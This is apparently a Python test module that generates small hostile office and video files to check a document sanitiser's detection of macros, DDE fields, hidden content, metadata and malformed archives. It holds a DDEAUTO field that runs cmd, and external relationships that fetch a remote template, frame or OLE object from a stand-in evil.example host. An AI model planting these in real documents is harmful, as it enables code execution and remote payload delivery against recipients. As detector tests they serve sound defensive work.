"""Hostile office files and films: macros, embedded things, what is fetched or tells; and what they become.

It must not run anything; every file is made here by code, and is small.
"""

import struct
from collections.abc import Iterator

from tests.examples.hostile_case import FileCase
from tests.office_packages import docx, listed, pptx, xlsx
from tests.small_files import box, exif, jpeg, mp4, segment

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def office_cases() -> Iterator[FileCase]:
    """Macros, embedded things, what is fetched, what tells."""
    orders = ("van-phong-ma-lenh",)
    for part in (
        *("word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "customUI/customUI.xml"),
        *("word/embeddings/oleObject1.bin", "word/embeddings/a.docx", "word/media/a.exe", "word/a.bin"),
    ):
        yield FileCase(f"docx-{part.replace('/', '-').lower()}.docx", docx(more={part: "<x/>"}), orders)
    for part in ("xl/macrosheets/sheet1.xml", "xl/connections.xml", "xl/ctrlProps/ctrlProp1.xml"):
        yield FileCase(f"xlsx-{part.replace('/', '-').lower()}.xlsx", xlsx(more={part: "<x/>"}), orders)

    def rels(kind: str, target: str) -> str:
        row = f'<Relationship Id="r" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        return f'<Relationships xmlns="{_REL}">{row}</Relationships>'

    for name, kind, target in (
        ("mau", "oleObject", "http://evil.example/hacked"),
        ("anh-xa", "image", "http://evil.example/hacked.png"),
        ("khung-xa", "frame", "http://evil.example/hacked"),
        ("lien-ket-tep", "hyperlink", "file:///c:/hacked.exe"),
        ("lien-ket-js", "hyperlink", "javascript:hacked"),
        ("lien-ket-unc", "hyperlink", "\\\\evil\\hacked"),
    ):
        more = {"word/_rels/document.xml.rels": rels(kind, target)}
        yield FileCase(f"docx-{name}.docx", docx(more=more), orders)
    template = {"word/_rels/settings.xml.rels": rels("attachedTemplate", "http://evil.example/hacked.dotm")}
    yield FileCase("docx-mau-xa.docx", docx(more=template), (), (b"hacked",))
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = f'<Types xmlns="x"><Override PartName="/a" ContentType="{kind}"/></Types>'
    yield FileCase("docx-macro.docx", docx(more={"[Content_Types].xml": types}), orders)
    dde = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd "/k calc"</w:instrText></w:r></w:p>'
    yield FileCase("docx-dde.docx", docx(dde), orders)
    simple = '<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'
    yield FileCase("docx-dde-gon.docx", docx(simple), orders)
    changed = '<w:p><w:ins w:author="An"><w:r><w:t>thêm</w:t></w:r></w:ins><w:del w:author="An"/></w:p>'
    yield FileCase("docx-sua-doi.docx", docx(changed), ("van-phong-sua-doi",))
    noted = (
        '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Chữ</w:t><w:commentReference w:id="0"/></w:r></w:p>'
    )
    comments = (
        f'<w:comments xmlns:w="{_W}"><w:comment w:id="0" w:author="An"><w:p/></w:comment></w:comments>'
    )
    told = (b"An", b"comment w:id", b"commentReference")
    yield FileCase(
        "docx-ghi-chu.docx", docx(noted, more={"word/comments.xml": comments}), ("van-phong-ghi-chu",), told
    )
    hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>ẩn</w:t></w:r></w:p>"
    yield FileCase("docx-an.docx", docx(hidden), ("van-phong-an",))
    yield FileCase("xlsx-an.xlsx", xlsx('<sheet name="Lương" state="veryHidden"/>'), ("van-phong-an",))
    row = '<worksheet><sheetData><row hidden="{}"><c/></row></sheetData></worksheet>'
    for state, codes in (("1", ("van-phong-an",)), ("0", ())):
        more = {"xl/worksheets/sheet1.xml": row.format(state)}
        yield FileCase(f"xlsx-hang-{state}.xlsx", xlsx(more=more), codes)
    path = '<x:absPath xmlns:x="x" url="C:\\Users\\An"/>'
    yield FileCase("xlsx-duong-dan.xlsx", xlsx(path), (), (b"Users",))
    outer = {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
    yield FileCase("xlsx-ngoai.xlsx", xlsx(more=outer), ("van-phong-an",))
    linked = {
        "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
    }
    yield FileCase("xlsx-dde.xlsx", xlsx(more=linked), ("van-phong-ma-lenh", "van-phong-an"))
    core = {
        "docProps/core.xml": "<a>An</a>",
        "docProps/app.xml": "<a>An</a>",
        "docProps/custom.xml": "<a>An</a>",
    }
    yield FileCase("docx-ke.docx", docx(more=core), (), (b"An",), ("Chữ".encode(),))
    photo = jpeg(more=segment(0xE1, b"Exif\0\0" + exif(1)))
    yield FileCase("docx-anh.docx", docx(more={"word/media/a.jpeg": photo}), (), (b"Camera",))
    yield FileCase("docx-mat.docx", docx("<w:p><w:r><w:t>TỐI MẬT</w:t></w:r></w:p>"), ("dau-mat",))
    entity = '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'
    declared: dict[str, str | bytes] = {
        "kieu": entity,
        "kieu-utf16": entity.encode("utf-16"),
        "kieu-ma": '<?xml version="1.0" encoding="utf-7"?>' + entity,
    }
    for name, styles in declared.items():
        code = "tep-hong" if name == "kieu-ma" else "xml-thuc-the"
        yield FileCase(f"docx-thuc-the-{name}.docx", docx(more={"word/styles.xml": styles}), (code,))
    yield FileCase("docx-thuc-the.docx", docx(more={"word/document.xml": entity}), ("xml-thuc-the",))
    for name, data in {
        "bom": docx(more={"word/a.xml": b" " * 24_000_000}),
        "duong-dan": docx(more={"../../a.xml": "<x/>"}),
        "duong-dan-goc": docx(more={"/a.xml": "<x/>"}),
        "xml": docx(more={"word/document.xml": "<x>"}),
        "trung": docx(more={"WORD/document.xml": "<x/>"}),
        "cut": docx()[:-30],
        "khoa": docx().replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"),
        "kich-thuoc": docx(more={"word/media/a.png": b"x" * 64}).replace(
            struct.pack("<I", 64), struct.pack("<I", 63)
        ),
        "sau": docx("<w:p>" * 400 + "</w:p>" * 400),
    }.items():
        yield FileCase(f"docx-hong-{name}.docx", data, ("tep-hong",))
    signed = {"_xmlsignatures/origin.sigs": "", "docProps/core.xml": "<a>An</a>"}
    yield FileCase("docx-ky.docx", docx(more=signed), ("ky-so-giu-nguyen",), whole=True)


def opendocument_cases() -> Iterator[FileCase]:
    """The same in OpenDocument, and what slides hide."""
    odf = "application/vnd.oasis.opendocument.text"
    text = "<c xmlns:office='o'><office:annotation><p>An</p></office:annotation><p>Chữ</p></c>"
    parts = {"mimetype": odf, "content.xml": text, "meta.xml": "<a>An</a>"}
    yield FileCase("odt-ghi-chu.odt", listed(parts), ("van-phong-ghi-chu",), (b"An",), ("Chữ".encode(),))
    yield FileCase(
        "odt-macro.odt",
        listed({**parts, "Basic/Standard/a.xml": "<x/>"}),
        ("van-phong-ma-lenh", "van-phong-ghi-chu"),
    )
    tracked = {**parts, "content.xml": "<c><changed-region/><p>Chữ</p></c>"}
    yield FileCase("odt-sua-doi.odt", listed(tracked), ("van-phong-sua-doi",))
    for name, style, codes in (
        ("trang-tinh", '<table-properties display="false"/>', ("van-phong-an",)),
        ("chu", '<text-properties display="none"/>', ("van-phong-an",)),
        ("chieu", '<drawing-page-properties visibility="hidden"/>', ("van-phong-an",)),
        ("cot", '<table-column visibility="collapse"/>', ("van-phong-an",)),
        ("hien", '<table-properties display="true"/><text-properties display="x"/>', ()),
    ):
        shown = {"mimetype": odf, "content.xml": f"<c>{style}<p>Chữ</p></c>"}
        yield FileCase(f"odt-an-{name}.odt", listed(shown), codes)
    locked = {"META-INF/manifest.xml": "<m><file-entry><encryption-data/></file-entry></m>"}
    yield FileCase("odt-mat-khau.odt", listed({**parts, **locked}), ("tep-hong",))
    for name, said, codes in (("noi", "Nói chậm 57", ("van-phong-an",)), ("so", " 3 ", ())):
        more = {"ppt/notesSlides/notesSlide1.xml": f"<n><p>{said}</p></n>"}
        yield FileCase(f"pptx-{name}.pptx", pptx(more), codes)


def media_cases() -> Iterator[FileCase]:
    """Films that tell where they were made."""
    told = ("phim-lam-sach",)
    place = box(b"\xa9xyz", b"+21.02+105.83/")
    yield FileCase("phim-gps.mp4", mp4(box(b"udta", place)), told, (b"21.02",))
    apple = box(
        b"meta", box(b"hdlr", b"\0" * 8) + box(b"keys", b"mdtacom.apple.quicktime.location.ISO6709")
    )
    yield FileCase("phim-apple.m4v", mp4(apple), told, (b"ISO6709",))
    yield FileCase("phim-lanh.mp4", mp4(box(b"mvhd", b"\0" * 100)), whole=True)
    yield FileCase("phim-hong.mp4", mp4()[:-40] + b"\xff" * 8, whole=True)
